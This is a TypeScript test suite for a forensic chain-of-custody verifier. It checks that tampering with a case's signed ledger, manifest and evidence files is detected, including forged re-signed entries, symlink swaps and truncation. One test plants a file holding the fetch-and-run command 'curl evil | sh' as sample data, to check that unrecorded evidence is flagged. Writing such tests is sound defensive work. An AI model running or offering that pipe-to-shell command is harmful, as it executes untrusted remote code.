import { execFileSync, spawn } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { once } from 'node:events';
import { appendFile, cp, link, mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import type { LedgerEntry } from '../../src/core/ports.js';
import { canonicalize } from '../../src/custody/canonical-json.js';
import type { Problem } from '../../src/custody/problems.js';
import { hashEntry, sealEntry } from '../../src/custody/entry.js';
import { signManifest, type Manifest } from '../../src/custody/manifest.js';
import { signingKeyFrom } from '../../src/custody/signing-key.js';
import { openCase, renderReport, verifyCase, type CaseHandle } from '../../src/custody/index.js';
import { buildClosedCase, caseOptions, useScratch } from './helpers.js';

// The case built by buildClosedCase: 1 case.opened, 2 credentials.assumed, 3-4 evidence.stored,
// 5 snapshot.requested, 6 snapshot.created, 7-8 artifact.recorded, 9 step.failed, 10 case.closed.
const LOG = 'evidence/ev-aaaaaaaaaaaa/console-output.log';

describe('verify', () => {
  const scratch = useScratch();
  let kase: CaseHandle;
  let ledgerPath: string;
  let lines: string[];

  const writeLines = (next: string[]) => writeFile(ledgerPath, `${next.join('\n')}\n`);
  const entryAt = (index: number) => JSON.parse(lines[index]!) as LedgerEntry;
  const attackerKey = () => signingKeyFrom(generateKeyPairSync('ed25519').privateKey);
  /** The problems of a case with exactly this one error. */
  const onlyError = (problem: Omit<Problem, 'severity'>): Problem[] => [{ severity: 'error', ...problem }];

  beforeEach(async () => {
    kase = await buildClosedCase(scratch);
    ledgerPath = join(kase.caseDir, 'ledger.jsonl');
    lines = (await readFile(ledgerPath, 'utf8')).trimEnd().split('\n');
    expect(lines).toHaveLength(10);
  });

  it('an untouched closed case verifies: every entry, signature and file', async () => {
    const result = await verifyCase(kase.caseDir);
    expect(result).toMatchObject({
      ok: true,
      closed: true,
      caseId: 'IR-2026-0042',
      entries: 10,
      publicKey: kase.publicKey,
      fingerprint: kase.fingerprint,
      evidence: { files: 2, verified: 2, artifacts: 1 },
      problems: [],
      warnings: [],
    });
    expect(result.firstProblem).toBeUndefined();
  });

  it('a changed byte in an entry is named by its seq', async () => {
    const next = [...lines];
    next[4] = next[4]!.replace('vol-0123', 'vol-0124');
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.firstProblem).toMatchObject({ kind: 'hash-mismatch', entrySeq: 5, line: 5 });
  });

  it('a removed entry is named where the sequence jumps', async () => {
    await writeLines(lines.filter((_, i) => i !== 4));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 6, line: 5 });
    expect(result.firstProblem?.message).toBe('entry 6 (line 5, snapshot.created): expected seq 5, found 6: entry 5 is missing before it');
  });

  it('entries removed from the middle are named as a range', async () => {
    await writeLines(lines.filter((_, i) => i !== 4 && i !== 5));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem?.message).toBe('entry 7 (line 5, artifact.recorded): expected seq 5, found 7: entries 5..6 are missing before it');
  });

  it('an inserted entry forged without the case key is named at its line', async () => {
    const previous = entryAt(3);
    const forged = sealEntry(
      { seq: 5, time: previous.time, type: 'snapshot.deleted', actor: 'mallory', data: { snapshotId: 'snap-0001' }, prev: previous.hash },
      attackerKey(),
    );
    await writeLines([...lines.slice(0, 4), canonicalize(forged), ...lines.slice(4)]);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'bad-signature', entrySeq: 5, line: 5 });
    expect(result.problems.map((p) => [p.kind, p.line])).toContainEqual(['seq-mismatch', 6]);
  });

  it('a replayed copy of a genuine entry is named as out of sequence', async () => {
    await writeLines([...lines.slice(0, 6), lines[2]!, ...lines.slice(6)]);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 3, line: 7 });
  });

  it('reordered entries are named at the first line out of order, saying where the skipped entry is (not that it is missing)', async () => {
    const next = [...lines];
    [next[4], next[5]] = [next[5]!, next[4]!];
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 6, line: 5 });
    expect(result.firstProblem?.message).toBe('entry 6 (line 5, snapshot.created): expected seq 5, found 6: entry 5 is not before it but at line 6: the entries are out of order');
  });

  it('a block of entries moved later is named as out of order; one moved and one removed says both', async () => {
    // Lines 5-6 (entries 5, 6) moved after entry 8.
    await writeLines([...lines.slice(0, 4), lines[6]!, lines[7]!, lines[4]!, lines[5]!, ...lines.slice(8)]);
    const moved = await verifyCase(kase.caseDir);
    expect(moved.firstProblem?.message).toBe(
      'entry 7 (line 5, artifact.recorded): expected seq 5, found 7: entries 5..6 are not before it but elsewhere in the ledger (entry 5 at line 7): the entries are out of order',
    );
    // Entry 5 removed, entry 6 moved after entry 8.
    await writeLines([...lines.slice(0, 4), lines[6]!, lines[7]!, lines[5]!, ...lines.slice(8)]);
    const mixed = await verifyCase(kase.caseDir);
    expect(mixed.firstProblem?.message).toBe(
      'entry 7 (line 5, artifact.recorded): expected seq 5, found 7: entries 5..6 are not before it: 1 is elsewhere in the ledger, out of order (entry 6 at line 7), and 1 is missing',
    );
  });

  it('a ledger cut short is caught against the signed manifest head', async () => {
    await writeLines(lines.slice(0, 8));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.firstProblem).toMatchObject({ kind: 'truncated', entrySeq: 9 });
    expect(result.firstProblem?.message).toBe('the ledger ends at entry 8 but the signed manifest records its head as entry 10: entries 9..10 were removed');
  });

  it('a ledger cut by its last entry names that one entry', async () => {
    await writeLines(lines.slice(0, 9));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'truncated', entrySeq: 10 });
    expect(result.firstProblem?.message).toBe('the ledger ends at entry 9 but the signed manifest records its head as entry 10: entry 10 was removed');
    const expected = JSON.parse(lines[9]!) as LedgerEntry;
    const cut = await verifyCase(kase.caseDir, { expectedHead: { seq: 10, hash: expected.hash } });
    expect(cut.problems.find((p) => p.kind === 'head-mismatch')?.message).toBe(
      `the ledger does not end at the expected head 10:${expected.hash}: the ledger ends at entry 9: entry 10 was cut from its end`,
    );
  });

  it('a last line cut mid-write is named', async () => {
    const full = await readFile(ledgerPath);
    await truncate(ledgerPath, full.length - 40);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'partial-line', line: 10 });
  });

  it('a last line that lost only its final newline is named as such, and its entry is still checked', async () => {
    const full = await readFile(ledgerPath);
    await truncate(ledgerPath, full.length - 1);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems).toEqual(onlyError({
      kind: 'partial-line',
      entrySeq: 10,
      line: 10,
      message:
        'line 10 of ledger.jsonl has no newline at the end, though it holds a whole entry (entry 10, case.closed): the final newline was removed after it was written (an editor), or the write stopped just before it; the entry is checked as it stands',
    }));
    expect(result).toMatchObject({ entries: 10, closed: true, head: { seq: 10 } });
  });

  it('a case without its evidence folder (or with a file in its place) is named once, not once per recorded file', async () => {
    await rm(join(kase.caseDir, 'evidence'), { recursive: true });
    const removed = await verifyCase(kase.caseDir);
    expect(removed.problems).toEqual(onlyError({
      kind: 'missing-file',
      path: 'evidence',
      message: 'evidence/ is missing, so every file the ledger records (2) is missing: none of them could be checked (the folder was removed, replaced, or not copied with the case)',
    }));
    await writeFile(join(kase.caseDir, 'evidence'), 'not a folder');
    const replaced = await verifyCase(kase.caseDir);
    expect(replaced.problems.map((p) => p.message)).toEqual([
      'evidence is not a folder, so every file the ledger records (2) is missing: none of them could be checked (the folder was removed, replaced, or not copied with the case)',
    ]);
  });

  it('an evidence file renamed within evidence/ is named as renamed on both sides: missing under its name, its bytes under the new one', async () => {
    await rename(join(kase.caseDir, LOG), join(kase.caseDir, 'evidence/ev-aaaaaaaaaaaa/renamed.log'));
    const result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path, p.message])).toEqual([
      ['missing-file', LOG, `${LOG} (recorded in entry 4) is missing: its recorded bytes are at evidence/ev-aaaaaaaaaaaa/renamed.log (the file was renamed or moved)`],
      [
        'unrecorded-file',
        'evidence/ev-aaaaaaaaaaaa/renamed.log',
        `evidence/ev-aaaaaaaaaaaa/renamed.log is in the case folder but no ledger entry records it: it holds the bytes entry 4 records for ${LOG}, which is missing (the file was renamed or moved)`,
      ],
    ]);
    // Other bytes under the new name are only what they are.
    await writeFile(join(kase.caseDir, 'evidence/ev-aaaaaaaaaaaa/renamed.log'), 'other bytes');
    const other = await verifyCase(kase.caseDir);
    expect(other.problems.map((p) => p.message)).toEqual([
      `${LOG} (recorded in entry 4) is missing`,
      'evidence/ev-aaaaaaaaaaaa/renamed.log is in the case folder but no ledger entry records it',
    ]);
  });

  it('a flipped byte in evidence/… is named by verify', async () => {
    const path = join(kase.caseDir, LOG);
    const bytes = await readFile(path);
    bytes[0] = bytes[0]! ^ 0x01;
    await writeFile(path, bytes);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'changed-file', path: LOG, entrySeq: 4 });
    expect(result.evidence.verified).toBe(1);
  });

  it('a changed byte in a signature is named by its seq, even though the sig is still well spelled', async () => {
    const entry = entryAt(5);
    const bytes = Buffer.from(entry.sig, 'base64');
    bytes[17] = bytes[17]! ^ 0x01;
    const next = [...lines];
    next[5] = canonicalize({ ...entry, sig: bytes.toString('base64') });
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'bad-signature', entrySeq: 6, line: 6 })]);
    expect(result.firstProblem?.message).toMatch(/signature does not verify with the pinned key/);
  });

  it('an evidence file replaced by a symlink to the same bytes is no longer a regular file', async () => {
    const path = join(kase.caseDir, LOG);
    const copy = join(scratch.root, 'elsewhere.log');
    await writeFile(copy, await readFile(path));
    await rm(path);
    await symlink(copy, path);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'changed-file', path: LOG, entrySeq: 4 });
    expect(result.firstProblem?.message).toBe(`${LOG} is no longer a regular file (it is a symlink to ${copy}): the file recorded in entry 4 was replaced`);
  });

  it('an evidence file with a hard link from outside the case verifies, with a warning that the other name can change it', async () => {
    const fresh = await verifyCase(kase.caseDir);
    expect(fresh.warnings.filter((w) => w.kind === 'linked-file')).toEqual([]);

    const outside = join(scratch.root, 'kept-elsewhere.log');
    await link(join(kase.caseDir, LOG), outside);
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(true);
    expect(result.warnings.filter((w) => w.kind === 'linked-file').map((w) => [w.path, w.entrySeq])).toEqual([[LOG, 4]]);
    expect(result.warnings.find((w) => w.kind === 'linked-file')?.message).toMatch(/matches entry 4 but has 2 names on its filesystem/);

    // What the warning is about: the bytes change through the other name, and verify then fails.
    await appendFile(outside, 'written through the other name\n');
    expect((await verifyCase(kase.caseDir)).firstProblem).toMatchObject({ kind: 'changed-file', path: LOG });
  });

  it("an evidence file whose second name is a temp left in the case's .partial/ by an interrupted write is named as that, not as a link from outside", async () => {
    await mkdir(join(kase.caseDir, '.partial'), { recursive: true });
    await link(join(kase.caseDir, LOG), join(kase.caseDir, '.partial', 'console-output.log.tmp'));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(true);
    const linked = result.warnings.filter((w) => w.kind === 'linked-file');
    expect(linked.map((w) => w.message)).toEqual([
      `${LOG} matches entry 4; its second name is .partial/console-output.log.tmp, the temp name of that write, left by an interrupted run (removed on resume)`,
    ]);
    expect(result.warnings.some((w) => w.kind === 'leftover-partial' && w.path === '.partial/console-output.log.tmp')).toBe(true);
  });

  it('a .lock left on a closed case is named as a stale lock (with its writer), not as a case being collected; the verdict is unchanged', async () => {
    await writeFile(join(kase.caseDir, '.lock'), JSON.stringify({ pid: 4242, host: 'collector-1' }));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(true);
    expect(result.warnings).toEqual([
      {
        severity: 'warning',
        kind: 'lock-present',
        path: '.lock',
        message:
          '.lock on a closed case (written by pid 4242 on host collector-1) is stale: a closed case is not being collected, so a run left it without removing it (unless a custody copy-case, or a collect --resume reopening the case, holds it on that host right now). ' +
          'It is harmless to verify and does not change this verdict; if no such run is going, the custodian may delete it from the original folder (leave it on a copy or write-protected media)',
      },
    ]);
    await writeFile(join(kase.caseDir, '.lock'), 'half-writ');
    expect((await verifyCase(kase.caseDir)).warnings[0]?.message).toMatch(/^\.lock on a closed case is stale: /);
  });

  it('a .lock on a case that is not closed is named as a run that is collecting or was interrupted', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0043' }));
    const result = await verifyCase(open.caseDir);
    expect(result.warnings.filter((w) => w.kind === 'lock-present').map((w) => w.message)).toEqual(['the case is open in a run, or its last run was interrupted (.lock is present)']);
    await open.release();
  });

  it("an evidence item's folder, or evidence/ itself, replaced by a symlink to a copy outside the case fails for every file under it, which is not read", async () => {
    const item = join(kase.caseDir, 'evidence/ev-aaaaaaaaaaaa');
    const elsewhere = join(scratch.root, 'elsewhere');
    await cp(item, elsewhere, { recursive: true });
    await rm(item, { recursive: true });
    await symlink(elsewhere, item);
    let result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path, p.entrySeq])).toEqual([
      ['changed-file', 'evidence/ev-aaaaaaaaaaaa/instance.json', 3],
      ['changed-file', LOG, 4],
    ]);
    expect(result.firstProblem?.message).toBe(
      `evidence/ev-aaaaaaaaaaaa/instance.json (recorded in entry 3) is reached through evidence/ev-aaaaaaaaaaaa, a symlink to ${elsewhere}: it is not stored in the case folder, so it was not checked`,
    );
    expect(result.evidence.verified).toBe(0);

    await rm(item);
    await cp(elsewhere, item, { recursive: true });
    expect((await verifyCase(kase.caseDir)).ok).toBe(true);
    const evidence = join(kase.caseDir, 'evidence');
    const outside = join(scratch.root, 'evidence-elsewhere');
    await rename(evidence, outside);
    await symlink(outside, evidence);
    result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path])).toEqual([
      ['changed-file', 'evidence/ev-aaaaaaaaaaaa/instance.json'],
      ['changed-file', LOG],
    ]);
    expect(result.firstProblem?.message).toContain(`is reached through evidence, a symlink to ${outside}`);
  });

  it('a raw disk image, or its folder, replaced by a symlink to the same bytes fails', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0046' }));
    const bytes = Buffer.alloc(4096, 9);
    const images = join(open.caseDir, 'images');
    await mkdir(images);
    await writeFile(join(images, 'vol-1.raw'), bytes);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    await open.record('disk.imaged', { volumeId: 'vol-1', path: 'images/vol-1.raw', insideCase: true, sha256, size: bytes.length });
    await open.close();
    expect((await verifyCase(open.caseDir)).ok).toBe(true);

    const outside = join(scratch.root, 'images-elsewhere');
    await rename(images, outside);
    await symlink(outside, images);
    let result = await verifyCase(open.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'changed-file', path: 'images/vol-1.raw', entrySeq: 2 })]);
    expect(result.firstProblem?.message).toContain(`is reached through images, a symlink to ${outside}`);

    await rm(images);
    await mkdir(images);
    await symlink(join(outside, 'vol-1.raw'), join(images, 'vol-1.raw'));
    result = await verifyCase(open.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'changed-file', path: 'images/vol-1.raw', entrySeq: 2 })]);
    expect(result.firstProblem?.message).toBe(`the disk image images/vol-1.raw is no longer a regular file (it is a symlink to ${join(outside, 'vol-1.raw')}): the image recorded in entry 2 was replaced`);
  });

  it('an evidence file replaced by a directory is no longer a regular file', async () => {
    const path = join(kase.caseDir, LOG);
    await rm(path);
    await mkdir(path);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'changed-file', path: LOG, entrySeq: 4 });
    expect(result.firstProblem?.message).toBe(`${LOG} is no longer a regular file (it is a folder): the file recorded in entry 4 was replaced`);
  });

  it('a flipped byte deep in a large evidence file (past the first 1 MiB read) is named', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0044' }));
    const big = Buffer.alloc(3 * 1024 * 1024 + 12_345);
    for (let i = 0; i < big.length; i++) big[i] = (i * 7919) & 0xff;
    await open.storeEvidence({ evidenceId: 'ev-cccccccccccc', name: 'checkpoint.tar', kind: 'container-checkpoint', source: 's', content: big });
    await open.close();
    expect((await verifyCase(open.caseDir)).ok).toBe(true);
    const rel = 'evidence/ev-cccccccccccc/checkpoint.tar';
    big[2 * 1024 * 1024 + 500] = big[2 * 1024 * 1024 + 500]! ^ 0x80;
    await writeFile(join(open.caseDir, rel), big);
    const result = await verifyCase(open.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'changed-file', path: rel, entrySeq: 2 })]);
    // Cut by one byte: the size is part of what is recorded.
    await writeFile(join(open.caseDir, rel), big.subarray(0, big.length - 1));
    expect((await verifyCase(open.caseDir)).firstProblem?.message).toMatch(/\(3158072 bytes\), recorded [0-9a-f]{64} \(3158073 bytes\)/);
  });

  it('a missing evidence file is named', async () => {
    await rm(join(kase.caseDir, LOG));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'missing-file', path: LOG });
  });

  it('a file slipped into evidence/ without a ledger entry is named', async () => {
    await writeFile(join(kase.caseDir, 'evidence/ev-aaaaaaaaaaaa/planted.sh'), 'curl evil | sh');
    await mkdir(join(kase.caseDir, 'evidence/ev-ffffffffffff/deeper'), { recursive: true });
    await writeFile(join(kase.caseDir, 'evidence/ev-ffffffffffff/deeper/x.bin'), 'x');
    const result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path])).toEqual([
      ['unrecorded-file', 'evidence/ev-aaaaaaaaaaaa/planted.sh'],
      ['unrecorded-file', 'evidence/ev-ffffffffffff/deeper/x.bin'],
    ]);
  });

  it('an entry rewritten and re-signed with another key fails its signature', async () => {
    const original = entryAt(4);
    const { hash: _h, sig: _s, ...rest } = original;
    const rewritten = sealEntry({ ...rest, data: { volumeId: 'vol-decoy' } }, attackerKey());
    expect(hashEntry(rewritten)).toBe(rewritten.hash);
    const next = [...lines];
    next[4] = canonicalize(rewritten);
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'bad-signature', entrySeq: 5 });
  });

  it('a changed manifest fails its signature', async () => {
    const path = join(kase.caseDir, 'manifest.json');
    const manifest = JSON.parse(await readFile(path, 'utf8')) as Manifest;
    manifest.files[0]!.sha256 = '0'.repeat(64);
    await writeFile(path, JSON.stringify(manifest, null, 2));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'manifest-signature', path: 'manifest.json' });
  });

  it('a ledger whose first entry was removed fails on the ledger, and the manifest is not said to be changed', async () => {
    await writeLines(lines.slice(1));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'no-pinned-key', line: 1 });
    const manifest = result.problems.find((p) => p.path === 'manifest.json');
    expect(manifest).toMatchObject({ kind: 'manifest-signature' });
    expect(manifest?.message).toBe('the signature of manifest.json cannot be checked: the ledger pins no key (see the ledger problems)');
  });

  it("another case's manifest put in place of this one's is named as such", async () => {
    const other = await buildClosedCase(scratch, { caseId: 'IR-2026-0099' });
    await writeFile(join(kase.caseDir, 'manifest.json'), await readFile(join(other.caseDir, 'manifest.json')));
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'manifest-signature', path: 'manifest.json' });
    expect(result.firstProblem?.message).toBe(
      `manifest.json is for case IR-2026-0099, signed with key sha256:${other.fingerprint}; the ledger is case IR-2026-0042's, pinning sha256:${kase.fingerprint} (entry 1): another case's manifest was put in its place`,
    );
  });

  it('bytes changed outside the hashed values (whitespace in a line) are named', async () => {
    const next = [...lines];
    next[5] = next[5]!.replace('{"actor"', '{ "actor"');
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'non-canonical-line', entrySeq: 6 });
    expect(result.firstProblem?.message).toBe(
      "entry 6 (line 6, snapshot.created): the line is not in canonical form (bytes were changed outside the hashed values); the entry's values, hash and signature match",
    );
  });

  it('a byte order mark put before the ledger is named as such, and the entries are still checked with the pinned key', async () => {
    await writeFile(ledgerPath, `\uFEFF${lines.join('\n')}\n`);
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual(onlyError({
      kind: 'non-canonical-line',
      line: 1,
      message: 'ledger.jsonl starts with a byte order mark (bytes EF BB BF, as an editor saving on Windows adds): bytes outside the entries were added; the entries are checked without it',
    }));
    expect(result).toMatchObject({ entries: 10, closed: true, fingerprint: kase.fingerprint });
  });

  it('a byte order mark put before manifest.json is named as such, and the manifest is still checked', async () => {
    const manifestPath = join(kase.caseDir, 'manifest.json');
    await writeFile(manifestPath, `\uFEFF${await readFile(manifestPath, 'utf8')}`);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems).toEqual(onlyError({
      kind: 'manifest-invalid',
      path: 'manifest.json',
      message: 'manifest.json starts with a byte order mark (bytes EF BB BF, as an editor saving on Windows adds): bytes were added; it is checked without them',
    }));
    expect(result.closed).toBe(true);
  });

  it('a ledger converted to CR LF line endings fails every line, each named as a carriage return added (not an unexplained change)', async () => {
    await writeFile(ledgerPath, lines.map((l) => `${l}\r\n`).join(''));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => [p.kind, p.line])).toEqual(lines.map((_, i) => ['non-canonical-line', i + 1]));
    expect(result.firstProblem?.message).toBe(
      "entry 1 (line 1, case.opened): the line ends in a carriage return (a CR LF line ending, as a Windows copy or git core.autocrlf writes): a byte outside the hashed values was added; the entry's values, hash and signature match",
    );
  });

  it('an entry changed outside canonical form and given the hash of its own bytes is named as changed, not only as badly signed', async () => {
    // Verify hashes a line's own bytes first (without hash and sig); this line hashes to its
    // claimed hash that way, but not in canonical form, which is what decides for a bad signature.
    const entry = entryAt(4);
    const spaced = lines[4]!.replace('"data":{', '"data":{ ');
    const unsealed = spaced.replace(`,"hash":"${entry.hash}"`, '').replace(`,"sig":"${entry.sig}"`, '');
    const forgedHash = createHash('sha256').update(unsealed).digest('hex');
    const next = [...lines];
    next[4] = spaced.replace(entry.hash, forgedHash);
    await writeLines(next);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.entrySeq])).toEqual([
      ['hash-mismatch', 5],
      ['broken-link', 6],
    ]);
  });

  it('a ledger and manifest wholly re-signed with another key pass alone, and fail against the known key', async () => {
    const key = attackerKey();
    let prev = '0'.repeat(64);
    const forged = lines.map((line, i) => {
      const { hash: _h, sig: _s, ...rest } = JSON.parse(line) as LedgerEntry;
      const data = i === 0 ? { ...rest.data, publicKey: key.publicKey } : rest.data;
      const entry = sealEntry({ ...rest, data, prev }, key);
      prev = entry.hash;
      return entry;
    });
    await writeLines(forged.map((e) => canonicalize(e)));
    const manifestPath = join(kase.caseDir, 'manifest.json');
    const { signature: _sig, ...manifest } = JSON.parse(await readFile(manifestPath, 'utf8')) as Manifest;
    const last = forged.at(-1)!;
    await writeFile(manifestPath, JSON.stringify(signManifest({ ...manifest, publicKey: key.publicKey, ledgerHead: { seq: last.seq, hash: last.hash } }, key)));

    // Internally consistent: only a key fingerprint kept elsewhere exposes the forgery.
    expect((await verifyCase(kase.caseDir)).ok).toBe(true);
    const result = await verifyCase(kase.caseDir, { expectedPublicKey: kase.publicKey });
    expect(result.firstProblem).toMatchObject({ kind: 'key-mismatch', entrySeq: 1 });
  });

  it('a case that was never closed verifies, with a warning that it is not closed', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0043' }));
    await open.storeEvidence({ evidenceId: 'ev-1', name: 'a.json', kind: 'k', source: 's', content: '{}' });
    await open.release();
    const result = await verifyCase(open.caseDir);
    expect(result.ok).toBe(true);
    expect(result.closed).toBe(false);
    expect(result.warnings.map((w) => w.kind)).toEqual(['not-closed']);
  });

  it('a manifest put back after the case was resumed is reported as stale', async () => {
    const manifestPath = join(kase.caseDir, 'manifest.json');
    const oldManifest = await readFile(manifestPath, 'utf8');
    const resumed = await openCase(caseOptions(scratch, { resume: true }));
    await resumed.release();
    await writeFile(manifestPath, oldManifest);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'manifest-stale', entrySeq: 11 });
  });

  it('ignores the reports at the case root and only warns about other stray files', async () => {
    await renderReport(kase.caseDir);
    await appendFile(join(kase.caseDir, 'notes.txt'), 'analyst scribbles');
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(true);
    expect(result.warnings.map((w) => [w.kind, w.path])).toEqual([['unknown-file', 'notes.txt']]);
  });

  it("a ledger replaced by a symlink to the same bytes is not the case's own ledger", async () => {
    const copy = join(scratch.root, 'elsewhere.jsonl');
    await writeFile(copy, await readFile(ledgerPath));
    await rm(ledgerPath);
    await symlink(copy, ledgerPath);
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.firstProblem).toMatchObject({ kind: 'ledger-missing', path: 'ledger.jsonl' });
    expect(result.firstProblem?.message).toBe(`ledger.jsonl is not a regular file (it is a symlink to ${copy}): the case's ledger was replaced`);
  });

  it.skipIf(process.platform === 'win32')('a FIFO planted as the ledger fails verification instead of blocking it', async () => {
    await rm(ledgerPath);
    execFileSync('mkfifo', [ledgerPath]);
    // Holds the FIFO open for writing a few seconds, so code that reads it ends (at EOF) and this
    // test fails instead of hanging the run.
    const writer = spawn('sh', ['-c', 'exec 3<>"$1"; echo ready; exec sleep 3', 'sh', ledgerPath], { stdio: ['ignore', 'pipe', 'ignore'] });
    try {
      await once(writer.stdout, 'data');
      const result = await verifyCase(kase.caseDir);
      expect(result.firstProblem).toMatchObject({ kind: 'ledger-missing', path: 'ledger.jsonl' });
      expect(result.firstProblem?.message).toMatch(/is not a regular file \(it is a FIFO\)/);
    } finally {
      writer.kill();
    }
  });

  it('a case folder without a ledger fails, saying so in words (not an errno)', async () => {
    await rm(ledgerPath);
    const result = await verifyCase(kase.caseDir);
    expect(result.firstProblem).toMatchObject({ kind: 'ledger-missing', path: 'ledger.jsonl' });
    expect(result.firstProblem?.message).toBe(
      "ledger.jsonl is missing: the case's signed record was removed (or not copied with the folder), so nothing in the folder can be checked",
    );
  });
});
